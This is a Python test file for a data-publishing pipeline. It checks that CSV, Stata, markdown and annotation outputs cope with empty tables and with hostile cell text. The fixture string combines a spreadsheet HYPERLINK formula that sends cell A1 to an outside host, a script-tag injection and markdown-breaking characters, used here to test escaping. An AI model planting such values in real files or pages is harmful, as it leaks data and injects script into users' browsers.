"""Copies of tables that no shipped report has: without rows, and with text that tries to be more than text."""

import csv
import io
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest

from pipeline.publishing.annotations import make_annotations
from pipeline.publishing.coding_scores import CodingScores
from pipeline.publishing.csv_copies import make_csv_copies
from pipeline.publishing.edition import Edition, Maker
from pipeline.publishing.pages import make_pages
from pipeline.publishing.stata_copies import make_stata_copies
from pipeline.tables.dataset_tables import Tables
from pipeline.tables.manifest import Build
from pipeline.tables.parquet import read_tables
from schemas.tables.catalog import FACT_TABLES

HOSTILE = '=HYPERLINK("http://example.org?"&A1,"x"), “né”\n</td><script>alert(1)</script> | [a](b) `c`'


@pytest.fixture
def edition(dataset: Path) -> Edition:
    return Edition(dataset, read_tables(dataset), Build("1.2.3"), CodingScores())


def with_cells(tables: Tables, name: str, column: str, cell: str) -> Tables:
    table = tables.of(name)
    place = table.schema.get_field_index(column)
    cells = pa.array([cell] * table.num_rows, type=pa.string())
    return replace(tables, **{name: table.set_column(place, table.schema.field(column), cells)})


def made(maker: Maker, edition: Edition) -> dict[str, bytes]:
    return {file.path: file.content for file in maker(edition)}


@pytest.mark.parametrize("maker", [make_csv_copies, make_stata_copies])
def test_tables_without_rows_have_copies_without_rows(maker: Maker, edition: Edition) -> None:
    empty = {table.name: edition.tables.of(table.name).slice(0, 0) for table in FACT_TABLES}
    files = made(maker, replace(edition, tables=replace(edition.tables, **empty)))

    assert len(files) == len(FACT_TABLES)
    for path, content in files.items():
        frame = pd.read_csv(io.BytesIO(content)) if path.endswith(".csv") else pd.read_stata(io.BytesIO(content))
        assert len(frame) == 0
        assert len(frame.columns) > 20


def test_csv_leaves_text_as_the_source_has_it(edition: Edition) -> None:
    hostile = replace(edition, tables=with_cells(edition.tables, "fines", "quote", HOSTILE))
    text = made(make_csv_copies, hostile)["csv/fines.csv"].decode()
    rows = list(csv.DictReader(io.StringIO(text, newline="")))

    assert rows
    assert all(row["quote"] == HOSTILE for row in rows)


def test_stata_holds_text_of_any_length(edition: Edition) -> None:
    long = "é" * 3000
    files = made(make_stata_copies, replace(edition, tables=with_cells(edition.tables, "fines", "quote", long)))

    assert set(pd.read_stata(io.BytesIO(files["stata/fines.dta"]))["quote"]) == {long}


def test_pages_show_markup_of_a_source_as_text(edition: Edition) -> None:
    tables = edition.tables
    for column in ("title", "publisher", "licence"):
        tables = with_cells(tables, "documents", column, HOSTILE)
    files = made(make_pages, replace(edition, tables=tables))

    for name in ("LICENCES.md", "PROVENANCE.md"):
        text = files[name].decode()
        assert "<script>" not in text.replace("\\<", "")
        assert r"\<script\>" in text
        # A row of a table stays one row.
        assert sum(line.startswith("| kazakhstan") for line in text.splitlines()) == 1
    assert b"<script" not in files["codebook.html"]
    assert b"Nothing was measured for this build." in files["codebook.md"]


def test_annotations_hold_text_of_a_source_as_text(edition: Edition) -> None:
    hostile = replace(edition, tables=with_cells(edition.tables, "facts", "counted", HOSTILE))
    (content,) = made(make_annotations, hostile).values()

    assert content.decode().count("</td><script>") == edition.tables.facts.num_rows
    assert len(content.splitlines()) == edition.tables.facts.num_rows + 10
